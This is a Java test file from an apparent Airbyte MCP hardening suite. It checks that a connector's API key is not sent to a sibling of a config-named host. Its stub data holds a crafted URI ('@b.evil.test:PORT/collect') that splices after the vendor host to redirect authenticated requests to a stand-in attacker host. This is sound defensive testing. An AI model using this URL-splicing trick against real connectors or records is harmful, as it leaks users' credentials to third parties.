package airbytemcp.hardening;

import static com.github.tomakehurst.wiremock.client.WireMock.any;
import static com.github.tomakehurst.wiremock.client.WireMock.anyUrl;
import static com.github.tomakehurst.wiremock.client.WireMock.get;
import static com.github.tomakehurst.wiremock.client.WireMock.okJson;
import static com.github.tomakehurst.wiremock.client.WireMock.urlPathEqualTo;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

/**
 * Red team l1. CredentialSites renders every requester's url_base with the call's config, so a
 * config-overridable base ({@code "{{ config.get('reports_url', ...) }}"}, the self-hosted shape of
 * dozens of corpus manifests) puts a host of the attacker's choosing on the list of sites that may
 * receive credentials. CallNamedHosts refuses connections to that host and the names under it, but
 * {@code sameSite} admits every host under the same registrable domain: a sibling ({@code
 * b.evil.test} next to the config's {@code a.evil.test}) is neither held nor refused, and a parent
 * record spliced after the vendor's host (source-twilio's shape) sends the key there.
 *
 * <p>Name resolution: the server's JVM reads a hosts file (jdk.net.hosts.file) mapping the made-up
 * names to 127.0.0.1, so every byte stays on loopback.
 */
@Timeout(value = 4, unit = TimeUnit.MINUTES)
class CredentialSitesSiblingOfCallNamedHostTest {
  private static final String MANIFEST =
      """
      version: 6.0.0
      type: DeclarativeSource
      check: {type: CheckStream, stream_names: [accounts]}
      definitions:
        auth:
          type: ApiKeyAuthenticator
          api_token: "{{ config['api_key'] }}"
          inject_into: {type: RequestOption, field_name: X-Api-Key, inject_into: header}
      streams:
        - type: DeclarativeStream
          name: accounts
          primary_key: [uri]
          schema_loader: {type: InlineSchemaLoader, schema: {type: object}}
          retriever:
            type: SimpleRetriever
            requester:
              type: HttpRequester
              url_base: VENDOR/api/
              path: accounts
              authenticator: {$ref: "#/definitions/auth"}
            record_selector: {type: RecordSelector, extractor: {type: DpathExtractor, field_path: [accounts]}}
        - type: DeclarativeStream
          name: usage
          primary_key: [id]
          schema_loader: {type: InlineSchemaLoader, schema: {type: object}}
          retriever:
            type: SimpleRetriever
            requester:
              type: HttpRequester
              url: "VENDOR{{ stream_partition['uri'] }}"
              authenticator: {$ref: "#/definitions/auth"}
            record_selector: {type: RecordSelector, extractor: {type: DpathExtractor, field_path: [usage]}}
            partition_router:
              type: SubstreamPartitionRouter
              parent_stream_configs:
                - type: ParentStreamConfig
                  stream: "#/streams/0"
                  parent_key: uri
                  partition_field: uri
        - type: DeclarativeStream
          name: reports
          primary_key: [id]
          schema_loader: {type: InlineSchemaLoader, schema: {type: object}}
          retriever:
            type: SimpleRetriever
            requester:
              type: HttpRequester
              url_base: "{{ config.get('reports_url', 'VENDOR/reports') }}"
              path: list
              authenticator: {$ref: "#/definitions/auth"}
            record_selector: {type: RecordSelector, extractor: {type: DpathExtractor, field_path: [reports]}}
      spec:
        type: Spec
        connection_specification:
          type: object
          required: [api_key]
          properties:
            api_key: {type: string, airbyte_secret: true}
            reports_url: {type: string, description: "Reports API base URL (self-hosted installs)"}
      """;

  @TempDir Path dir;
  private RegistryManifestWorld world;

  @AfterEach
  void stop() {
    if (world != null) {
      world.close();
    }
  }

  /** The same read without the config's base: the sibling is refused (the control). */
  @Test
  void controlWithoutTheConfigsBaseTheSiblingIsRefused() throws Exception {
    RegistryManifestWorld.Answer answer = readUsage(Map.of());

    assertEquals(List.of(), world.elsewhereGot(), "control: the sibling got a request");
    assertTrue(
        answer.isError() && answer.text().contains("was about to send its credentials"),
        "control: the read says why it stopped: " + answer.text());
  }

  @Test
  void aSiblingOfAHostTheConfigNamedGetsNoCredentials() throws Exception {
    RegistryManifestWorld.Answer answer =
        readUsage(Map.of("reports_url", "http://a.evil.test:PORT/"));

    assertTrue(
        !world.vendor.getAllServeEvents().isEmpty(),
        "the parent stream was never read, so nothing was tested: " + answer.text());
    List<String> got = world.elsewhereGot();
    assertEquals(
        null,
        got.stream()
            .map(RegistryManifestWorld::secretIn)
            .filter(s -> s != null)
            .findFirst()
            .orElse(null),
        "the key went to a sibling of the host the call's config named: " + got);
    assertTrue(
        answer.isError() && answer.text().contains("was about to send its credentials"),
        "the read says why it stopped: " + answer.text());
  }

  private RegistryManifestWorld.Answer readUsage(Map<String, String> extraConfig) throws Exception {
    world = new RegistryManifestWorld(dir.resolve("world"));
    Path hosts =
        Files.writeString(
            dir.resolve("hosts"),
            "127.0.0.1 localhost\n127.0.0.1 a.evil.test\n127.0.0.1 b.evil.test\n");
    world.env.put("JAVA_TOOL_OPTIONS", "-Djdk.net.hosts.file=" + hosts);
    int port = world.elsewhere.port();
    // a record a third party wrote into the vendor's account list
    world.vendor.stubFor(
        get(urlPathEqualTo("/api/accounts"))
            .willReturn(
                okJson("{\"accounts\": [{\"uri\": \"@b.evil.test:" + port + "/collect\"}]}")));
    world.elsewhere.stubFor(any(anyUrl()).willReturn(okJson("{\"usage\": [{\"id\": 82}]}")));
    world.start("source-sibling-api", MANIFEST, null);
    Map<String, Object> config = new HashMap<>();
    config.put("api_key", "secret_reference::VENDOR_API_KEY");
    extraConfig.forEach((k, v) -> config.put(k, v.replace("PORT", Integer.toString(port))));
    return world.call(
        "read_source_stream_records",
        Map.of(
            "source_connector_name", "source-sibling-api",
            "override_execution_mode", "native",
            "stream_name", "usage",
            "config", config));
  }
}
